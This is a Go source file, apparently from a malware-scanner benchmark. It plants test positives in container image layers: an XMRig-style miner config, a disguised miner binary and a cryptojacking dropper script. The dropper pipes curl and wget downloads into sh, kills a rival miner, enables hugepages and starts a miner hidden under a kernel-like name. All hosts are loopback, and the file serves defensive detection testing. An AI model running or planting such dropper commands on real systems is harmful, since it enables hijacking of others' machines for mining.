package main

import (
	"fmt"
	"os"

	"github.com/davyproject/davy/internal/testbed"
)

// Planted positives: one of each kind Davy looks for, each carrying bytes
// of Davy's content indicators too, so the byte-pattern contenders (ClamAV,
// YARA) have the same three files to find and the outputs can be compared.
// Every address in them is loopback: the files are never run, and even so
// no benchmark file names a host outside this machine.
const (
	plantedMiner   = "usr/local/lib/.cache/kworkerds"
	plantedConfig  = "opt/app/.config/config.json"
	plantedDropper = "etc/cron.hourly/sysupdate"
)

var plantedNames = []string{plantedMiner, plantedConfig, plantedDropper}

// minerConfig is laid out like an XMRig config.json.
var minerConfig = fmt.Sprintf(`{
    "autosave": true,
    "background": true,
    "donate-level": 1,
    "cpu": {"enabled": true, "huge-pages": true, "max-threads-hint": 100},
    "randomx": {"1gb-pages": true, "mode": "fast"},
    "pools": [
        {
            "algo": "rx/0",
            "url": "stratum+tcp://127.0.0.1:3333",
            "user": %q,
            "pass": "x",
            "keepalive": true,
            "tls": false
        }
    ]
}
`, testbed.MoneroWallet)

// dropperScript downloads and runs a payload, tunes the host for mining and
// starts the miner, as cryptojacking droppers do.
var dropperScript = fmt.Sprintf(`#!/bin/sh
# system update helper
pkill -f kdevtmpfsi || true
curl -fsSL http://127.0.0.1/x | sh
wget -q -O - http://127.0.0.1/x | sh
echo 128 > /proc/sys/vm/nr_hugepages
chmod +x /usr/local/lib/.cache/kworkerds
/usr/local/lib/.cache/kworkerds -o stratum+tcp://127.0.0.1:3333 -u %s --donate-level 1 -B
`, testbed.MoneroWallet)

// benignAppConfig keeps the last layer from holding only positives.
const benignAppConfig = `server:
  listen: 127.0.0.1:8080
  workers: 4
log:
  level: info
`

// plantedEntries builds the testbed miner into dir and returns the planted
// files by layer index: the miner in the middle of the image, the config
// and dropper in the last layer (index lastLayer).
func plantedEntries(dir string, lastLayer int) ([][]entry, error) {
	bins, err := testbed.Build(dir)
	if err != nil {
		return nil, fmt.Errorf("building the testbed miner: %w", err)
	}
	fi, err := os.Stat(bins.Miner)
	if err != nil {
		return nil, fmt.Errorf("testbed miner: %w", err)
	}
	out := make([][]entry, lastLayer+1)
	out[2] = append(out[2], entry{name: plantedMiner, src: bins.Miner, srcSize: fi.Size(), mode: 0o755, kind: kindELF, planted: true})
	out[lastLayer] = append(out[lastLayer],
		entry{name: plantedConfig, data: []byte(minerConfig), mode: 0o644, kind: kindText, planted: true},
		entry{name: plantedDropper, data: []byte(dropperScript), mode: 0o755, kind: kindText, planted: true},
		entry{name: "etc/app/app.yaml", data: []byte(benignAppConfig), mode: 0o644, kind: kindText},
	)
	return out, nil
}
